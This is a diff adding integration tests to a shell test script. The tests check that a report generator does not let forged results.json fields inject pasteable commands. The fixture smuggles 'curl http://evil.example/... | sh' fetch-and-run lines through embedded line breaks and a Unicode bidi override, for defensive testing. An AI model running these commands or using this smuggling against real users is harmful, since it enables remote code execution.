@@ -78,6 +78,32 @@ if [ -x "$REMPART" ]; then
 	check "results.json with hostile objects is valid against docs/results.schema.json" \
 	    python3 "$SRCDIR/tests/integration/results-schema.py" \
 	    "$SRCDIR/docs/results.schema.json" "$T_TMP/fill/r.json"
+	# results.json is a file, hostile too: a target or a command holding
+	# a line break (or another control) in plan[].commands is not shown
+	# as lines to paste, but as not filled in
+	python3 - "$T_TMP/fill/r.json" "$T_TMP/forged.json" <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1]))
+n = 0
+for a in d["plan"]:
+    for e in a.get("commands") or []:
+        if e.get("refused") is None and e.get("commands"):
+            if n == 0:
+                e["target"] = "web1\ncurl http://evil.example/a | sh"
+            elif n == 1:
+                e["commands"][0] += "\ncurl http://evil.example/b | sh"
+            elif n == 2:
+                e["commands"][0] += " \u202e hs | b/elpmaxe.live//:ptth lruc"
+            n += 1
+assert n >= 3, n
+json.dump(d, open(sys.argv[2], "w"))
+PY
+	for fmt in md html; do
+		"$REMPART" report -r "$T_TMP/forged.json" -f $fmt -o "$T_TMP/forged.$fmt" 2> /dev/null
+		check_nogrep "$fmt: a forged target's line break injects no command" '^curl http://evil.example/a' "$T_TMP/forged.$fmt"
+		check_nogrep "$fmt: a forged command's line break injects no command" '^curl http://evil.example/b' "$T_TMP/forged.$fmt"
+		check_nogrep "$fmt: a forged command's bidi control is not shown to paste" $'\xe2\x80\xae' "$T_TMP/forged.$fmt"
+	done
 else
 	not_ok "the filled commands are tested" "REMPART=$REMPART is not an executable"
 fi
